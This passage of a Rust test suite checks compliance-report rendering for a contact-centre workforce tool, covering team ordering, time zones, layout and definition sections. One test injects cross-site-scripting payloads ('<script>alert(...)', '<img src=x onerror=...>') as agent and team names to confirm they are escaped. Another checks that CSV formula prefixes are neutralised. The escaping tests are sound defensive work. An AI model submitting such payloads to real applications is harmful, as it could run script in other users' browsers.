    let tail: Vec<&str> = row.iter().skip(row.len() - 5).take(3).collect();
    assert_eq!(
        tail,
        [format!("'{hyperlink}").as_str(), "'+t_1", "'@SUM(1)"],
        "{text}"
    );
}

#[apply(backends)]
#[tokio::test]
async fn json_agents_carry_name_team_id_and_team(backend: Backend) {
    let (store, _dir) = fixture(backend).await;
    let report = build(&store, minutes(120)).await;
    let text = render(&store, &report, ReportFormat::Json).await.text();
    let json: serde_json::Value = serde_json::from_str(&text).unwrap();
    let agents = &json["agents"];
    assert_eq!(agents[0]["name"], "Ada Lovelace");
    assert_eq!(agents[0]["team_id"], "t_1");
    assert_eq!(agents[0]["team"], "Care");
    assert_eq!(agents[1]["name"], serde_json::Value::Null);
    assert_eq!(agents[1]["team"], serde_json::Value::Null);
    assert_eq!(agents[2]["name"], "Grace Hopper");
}

/// An agent with only what the page's order depends on.
fn summary(
    id: &str,
    name: Option<&str>,
    team: Option<(&str, &str)>,
    pct: Option<f64>,
) -> AgentSummary {
    AgentSummary {
        agent_id: id.into(),
        name: name.map(Into::into),
        team_id: team.map(|t| t.0.into()),
        team: team.map(|t| t.1.into()),
        adherence_pct: pct,
        ..AgentSummary::default()
    }
}

fn report_of(agents: Vec<AgentSummary>, zone: Option<chrono_tz::Tz>) -> Report {
    Report {
        window: window(),
        generated_at: minutes(120),
        zone,
        agents,
        definitions: Definitions::compliance(&judging(), zone),
        team: None,
    }
}

/// The team sections' headings and the `data-agent` ids of the rows of each one's first
/// table, in page order.
fn page_order(html: &str) -> Vec<String> {
    let mut order = Vec::new();
    for section in html.split("<section class=\"team\" id=\"team-").skip(1) {
        let heading = &section[section.find("<h3>").unwrap() + 4..];
        order.push(format!(
            "team {}",
            &heading[..heading.find([' ', '<']).unwrap()]
        ));
        let table = section.split("<table class=\"agents\">").nth(1).unwrap();
        let table = &table[..table.find("</table>").unwrap()];
        for piece in table.split("<tr class=\"agent\" data-agent=\"").skip(1) {
            order.push(piece[..piece.find('"').unwrap()].to_owned());
        }
    }
    order
}

/// The `data-agent` ids of the rows of every section's `nth` table (1 or 2), in page
/// order.
fn table_rows(html: &str, nth: usize) -> Vec<String> {
    html.split("<section class=\"team\"")
        .skip(1)
        .flat_map(|section| {
            let table = section.split("<table class=\"agents\">").nth(nth).unwrap();
            let table = &table[..table.find("</table>").unwrap()];
            table
                .split("data-agent=\"")
                .skip(1)
                .map(|p| p[..p.find('"').unwrap()].to_owned())
                .collect::<Vec<_>>()
        })
        .collect()
}

#[apply(backends)]
#[tokio::test]
async fn html_groups_by_team_and_lists_worst_adherence_first_with_unknown_figures_last(
    backend: Backend,
) {
    let (store, _dir) = temp_store_on(backend).await;
    let care = Some(("t_1", "Care"));
    let billing = Some(("t_2", "billing"));
    let report = report_of(
        vec![
            summary("u_01", Some("Ann"), care, Some(95.0)),
            summary("u_02", Some("Bob"), billing, None),
            summary("u_03", Some("Cem"), care, None),
            summary("u_04", Some("Dee"), care, Some(40.5)),
            summary("u_05", None, None, Some(10.0)),
            summary("u_06", Some("Eve"), billing, Some(99.0)),
            summary("u_07", Some("Fay"), care, Some(40.5)),
            summary("u_08", Some("Gus"), care, Some(100.0)),
        ],
        None,
    );
    let html = render(&store, &report, ReportFormat::Html).await.text();
    assert_eq!(
        page_order(&html),
        [
            // Teams by name whatever the case; agents without a team last.
            "team billing",
            "u_06",
            "u_02",
            "team Care",
            // 40.5 twice: by name.
            "u_04",
            "u_07",
            "u_01",
            "u_08",
            "u_03",
            "team No",
            "u_05",
        ],
    );
    // The second tables and the chart follow the same order.
    assert_eq!(
        table_rows(&html, 2),
        [
            "u_06", "u_02", "u_04", "u_07", "u_01", "u_08", "u_03", "u_05"
        ]
    );
    let chart = &html[html.find("<svg").unwrap()..html.find("</svg>").unwrap()];
    let labels: Vec<&str> = chart
        .split("<title>")
        .skip(1)
        .map(|p| &p[..p.find(':').unwrap()])
        .collect();
    assert_eq!(labels[..3], ["Eve (u_06)", "Bob (u_02)", "Dee (u_04)"]);
    assert_eq!(labels[7], "u_05", "no name: the id");
    assert!(html.contains("Care <span class=\"id\">t_1</span> · 5 agents · mean adherence 69.0%"));
    // Each section is linked from the top, before the summary.
    let nav = &html[html.find("<nav class=\"top\"").unwrap()..html.find("<h2>Summary").unwrap()];
    assert!(nav.contains("<a href=\"#definitions\">"));
    for (i, name) in ["billing", "Care", "No team known"].iter().enumerate() {
        assert!(
            nav.contains(&format!("<a href=\"#team-{i}\">{name}</a>")),
            "{nav}"
        );
        assert!(html.contains(&format!(
            "<section class=\"team\" id=\"team-{i}\"><h3>{name}"
        )));
    }
}

#[apply(backends)]
#[tokio::test]
async fn html_shows_names_with_ids_and_escapes_a_hostile_name_and_team(backend: Backend) {
    let (store, _dir) = temp_store_on(backend).await;
    let report = report_of(
        vec![
            summary(
                "u_01",
                Some("<script>alert('name')</script>"),
                Some(("t_<b>", "<img src=x onerror=alert(1)>")),
                Some(50.0),
            ),
            summary("u_02", Some("Ada Lovelace"), None, None),
        ],
        None,
    );
    let html = render(&store, &report, ReportFormat::Html).await.text();
    assert!(
        !html.contains("<script"),
        "no script element, not even the name's"
    );
    assert!(!html.contains("<img") && !html.contains("<b>"));
    assert!(html.contains("&lt;script&gt;alert(&#x27;name&#x27;)&lt;/script&gt;"));
    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));
    assert!(html.contains("<td>Ada Lovelace<br><span class=\"id\">u_02</span></td>"));
}

#[apply(backends)]
#[tokio::test]
async fn html_title_and_heading_name_the_window_in_the_chosen_time_zone(backend: Backend) {
    let (store, _dir) = temp_store_on(backend).await;
    let berlin = report_of(vec![], Some(parse_zone("Europe/Berlin").unwrap()));
    let html = render(&store, &berlin, ReportFormat::Html).await.text();
    let expected = "Compliance report 2026-11-20 10:00 – 2026-11-20 11:00 (Europe/Berlin)";
    assert!(
        html.contains(&format!("<title>{expected}</title>")),
        "{html}"
    );
    assert!(html.contains(&format!("<h1>{expected}</h1>")));

    let utc = report_of(vec![], None);
    let html = render(&store, &utc, ReportFormat::Html).await.text();
    assert!(
        html.contains("<title>Compliance report 2026-11-20 09:00 – 2026-11-20 10:00 (UTC)</title>")
    );
}

#[test]
fn the_window_label_shows_seconds_only_when_an_end_has_them() {
    let mut report = report_of(vec![], Some(parse_zone("America/New_York").unwrap()));
    report.window.to = minutes(60) + Duration::seconds(30);
    assert_eq!(
        report.window_label(),
        "2026-11-20 04:00:00 – 2026-11-20 05:00:30 (America/New_York)"
    );
}

#[apply(backends)]
#[tokio::test]
async fn html_tables_take_the_page_width_and_wrap_long_names_but_never_a_header_word(
    backend: Backend,
) {
    let (store, _dir) = temp_store_on(backend).await;
    let long = "Maximiliana-Theodora Wolkenstein-Rodenegg von und zu Hohenlohe-Schillingsfürst";
    let report = report_of(
        vec![summary("u_01", Some(long), Some(("t_1", long)), Some(1.0))],
        None,
    );
    let html = render(&store, &report, ReportFormat::Html).await.text();
    let style = &html[html.find("<style>").unwrap()..html.find("</style>").unwrap()];
    assert!(style.contains("table.agents{width:100%;"));
    assert!(style.contains("table.agents td{overflow-wrap:anywhere}"));
    assert!(style.contains("table.agents th{overflow-wrap:normal;word-break:normal;"));
    assert!(style.contains("table.agents thead th{position:sticky;top:0;"));
    assert!(style.contains("svg{max-width:100%;height:auto}"));
    // Nothing in the style is wider than a 1366 px screen: no width in px or em
    // beyond the legend's swatches and the hidden captions.
    for width in style.split("width:").skip(1) {
        let value = &width[..width.find([';', '}']).unwrap()];
        assert!(
            value.ends_with('%') || value == "12px" || value == "1px",
            "a fixed width {value} in {style}"
        );
    }
    assert_eq!(html.matches("<table class=\"agents\">").count(), 2);
    // The chart is drawn 800 px wide and may shrink.
    assert!(html.contains("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"800\""));
    // The summary is the only other table: two columns of short text.
    assert_eq!(html.matches("<table").count(), 3);
    // The chart cuts a long name; the tables keep it whole.
    assert!(html.contains(">Maximiliana-Theodora …</text>"), "{html}");
    assert_eq!(html.matches(&format!("<td>{long}<br>")).count(), 2);
}

// ---- definitions (#39, item 5) ----------------------------------------------------

/// Two rules, versioned `r-7f3a`, with a three-minute default grace.
fn ruled() -> Judging {
    use crate::domain::adherence_rules::{AdherenceRule, AdherenceVerdict};
    let rule = |activity: &str, state: &str, verdict| AdherenceRule {
        activity: activity.parse().unwrap(),
        states: vec![state.parse().unwrap()],
        verdict,
        grace: None,
        severe_after: None,
    };
    Judging {
        rules: vec![
            rule("Lunch", "NOT_READY:LUNCH", AdherenceVerdict::In),
            rule("Training", "PAUSED", AdherenceVerdict::Neutral),
        ],
        version: Some("r-7f3a".to_owned()),
        threshold: chrono::TimeDelta::minutes(3),
    }
}

fn term_names(definitions: &serde_json::Value) -> Vec<String> {
    definitions["terms"]
        .as_array()
        .expect("terms are a list")
        .iter()
        .map(|t| t["term"].as_str().unwrap().to_owned())
        .collect()
}

#[tokio::test]
async fn the_json_report_carries_definitions_of_every_figure_in_its_zone() {
    let (store, _dir) = temp_store_on(Backend::Sqlite).await;
    let zone: chrono_tz::Tz = "Europe/Berlin".parse().unwrap();
    let report = Report::build(store.reader(), window(), minutes(120), Some(zone), &ruled())
        .await
        .unwrap();
    let json: serde_json::Value =
        serde_json::from_str(&render(&store, &report, ReportFormat::Json).await.text()).unwrap();
    let definitions = &json["definitions"];
    assert_eq!(definitions["of"], "compliance");
    assert_eq!(definitions["time_zone"], "Europe/Berlin");
    let names = term_names(definitions);
    for figure in [
        "adherence_pct",
        "idle_seconds",
        "latency_p95_ms",
        "latency_mean_ms",
        "unobserved_seconds",
        "neutral_seconds",
        "authorised_seconds",
    ] {
        assert!(
            names.iter().any(|n| n == figure),
            "{figure} is defined: {names:?}"
        );
    }
    // Every numeric column of the CSV is defined, by its column name.
    for column in csv_export::COLUMNS {
        if !["agent_id", "to", "name", "team_id", "team"].contains(&column) {
            assert!(names.iter().any(|n| n == column), "{column} is defined");
        }
    }
    let adherence = definitions["terms"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["term"] == "adherence_pct")
        .unwrap();
    assert_eq!(adherence["unit"], "percent (0–100)");
    let text = adherence["definition"].as_str().unwrap();
    assert!(
        text.contains("observed scheduled time − neutral time − authorised time"),
        "{text}"
    );
}

#[tokio::test]
async fn the_definitions_name_the_rules_version_and_grace_when_rules_are_configured() {
    let (store, _dir) = temp_store_on(Backend::Sqlite).await;
    let report = Report::build(store.reader(), window(), minutes(120), None, &ruled())
        .await
        .unwrap();
    let json: serde_json::Value =
        serde_json::from_str(&render(&store, &report, ReportFormat::Json).await.text()).unwrap();
    let rules = &json["definitions"]["adherence_rules"];
    assert_eq!(rules["rules"], 2);
    assert_eq!(rules["version"], "r-7f3a");
    assert_eq!(rules["grace_seconds"], 180.0);
    let summary = rules["summary"].as_str().unwrap();
    assert!(
        summary.starts_with("2 adherence rules, version r-7f3a"),
        "{summary}"
    );
    assert!(summary.contains("180 s"), "{summary}");
    // The adherence figure's own text names them too, as do the page and the companion.
    let adherence = Definitions::compliance(&ruled(), None);
    let pct = adherence
        .terms
        .iter()
        .find(|t| t.term == "adherence_pct")
        .unwrap();
    assert!(
        pct.definition.contains("version r-7f3a"),
        "{}",
        pct.definition
    );
    let html = render(&store, &report, ReportFormat::Html).await.text();
    assert!(html.contains("2 adherence rules, version r-7f3a"));
    let companion = String::from_utf8(adherence.to_csv()).unwrap();
    assert!(companion.contains("2 adherence rules, version r-7f3a"));

    let builtin = Definitions::compliance(&judging(), None);
    assert_eq!(builtin.adherence_rules.version, None);
    assert!(
        builtin
            .adherence_rules
            .summary
            .starts_with("no adherence rules: the built-in kinds judge"),
        "{}",
        builtin.adherence_rules.summary
    );
    assert!(builtin.adherence_rules.summary.contains("120 s"));
}

#[tokio::test]
async fn the_html_page_ends_with_a_definitions_section_of_every_term() {
    let (store, _dir) = fixture(Backend::Sqlite).await;
    let report = build(&store, minutes(120)).await;
    let html = render(&store, &report, ReportFormat::Html).await.text();
    let section = html
        .split("<section class=\"definitions\" id=\"definitions\"><h2>Definitions</h2>")
        .nth(1)
        .expect("the page has a Definitions section");
    assert!(
        section.ends_with("</dl></section></body></html>\n"),
        "it comes last"
    );
    for row in report.definitions.rows() {
        assert!(
            section.contains(&format!(
                "<code>{}</code>",
                html_escape::encode_quoted_attribute(&row.term)
            )),
            "{} is in the footnotes",
            row.term
        );
        assert!(
            section.contains(&*html_escape::encode_quoted_attribute(&row.definition)),
            "{}'s definition is in the footnotes",
            row.term
        );
    }
    assert!(section.contains("Times are written in UTC"));
}

#[tokio::test]
async fn the_csv_report_stays_strict_csv_and_its_companion_defines_each_column() {
    let (store, _dir) = fixture(Backend::Sqlite).await;
    let report = build(&store, minutes(120)).await;
    let body = render(&store, &report, ReportFormat::Csv).await.text();
    // No comment lines: the first record is the header, and every record has as many
    // fields as it.
    let mut reader = csv::ReaderBuilder::new()
        .flexible(false)
        .from_reader(body.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        csv_export::COLUMNS
    );
    assert_eq!(reader.records().count(), 3);

    let companion = report.definitions.to_csv();
    let mut reader = csv::ReaderBuilder::new()
        .flexible(false)
        .from_reader(companion.as_slice());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        ["term", "label", "definition", "unit", "time_zone"]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let terms: Vec<&str> = rows.iter().map(|r| &r[0]).collect();
    assert_eq!(
        terms,
        report
            .definitions
            .rows()
            .iter()
            .map(|r| r.term.as_str())
            .collect::<Vec<_>>()
    );
    assert!(rows.iter().all(|r| &r[4] == "UTC"));
    let idle = rows.iter().find(|r| &r[0] == "idle_seconds").unwrap();
    assert!(
        idle[2].contains("IDLE, PAUSED or NOT_READY"),
        "{}",
        &idle[2]
    );
    assert!(idle[3].starts_with("seconds"));
}

#[test]
fn the_wallboard_definitions_give_each_skill_its_threshold_and_colour_bands() {
    let tile = |id: &str, name: &str, threshold: Option<u32>, goal: Option<f64>| {
        crate::domain::metrics::SkillTile {
            skill_id: id.into(),
            skill_name: name.into(),
            contacts_queued: 0,
            contacts_active: 0,
            longest_wait_secs: 0,
            service_level: Some(0.9),
            service_level_threshold_secs: threshold,
            service_level_goal: goal,
            agents_available: 0,
            agents_staffed: 0,
            agents_on_contact: 0,
            agents_acw: 0,
            estimated_wait_secs: None,
            sampled_at: t0(),
        }
    };
    let definitions = Definitions::wallboard(
        &ruled(),
        &[
            tile("s2", "Support", None, None),
            tile("s1", "Sales", Some(20), Some(0.8)),
        ],
        0.85,
        0.6,
    );
    assert_eq!(definitions.service_levels.len(), 2);
    // By name, whatever order the board held them in.
    assert_eq!(definitions.service_levels[1].skill_name, "Support");
    assert_eq!(definitions.service_levels[1].good, 0.85);
    assert_eq!(definitions.service_levels[1].warning, 0.6);
    let json = definitions.to_json();
    assert_eq!(json["service_levels"][0]["threshold_seconds"], 20);
    assert_eq!(json["service_levels"][0]["goal"], 0.8);
    assert!(json["service_levels"][1]["threshold_seconds"].is_null());
    assert!(json["service_levels"][1]["goal"].is_null());
    let rows = definitions.rows();
    let s1 = rows.iter().find(|r| r.term == "service_level[s1]").unwrap();
    assert_eq!(
        s1.definition,
        "Share of the skill's contacts answered within 20 s (goal 80 %); green at or above \
         0.85, amber at or above 0.6, red below"
    );
    let s2 = rows.iter().find(|r| r.term == "service_level[s2]").unwrap();
    assert!(
        s2.definition
            .contains("the skill's threshold, which the platform's skill data does not report"),
        "{}",
        s2.definition
    );
    assert!(!s2.definition.contains("goal"), "{}", s2.definition);
    assert!(
        s2.definition
            .contains("green at or above 0.85, amber at or above 0.6")
    );
    let csv = String::from_utf8(definitions.to_csv()).unwrap();
    assert!(csv.contains("answered within 20 s (goal 80 %)"), "{csv}");
    let sl = rows.iter().find(|r| r.term == "service_level").unwrap();
    assert!(sl.definition.contains("wfmd does not compute it"));
    let badge = rows.iter().find(|r| r.term == "adherence_badge").unwrap();
    assert!(badge.definition.contains("version r-7f3a"));
}
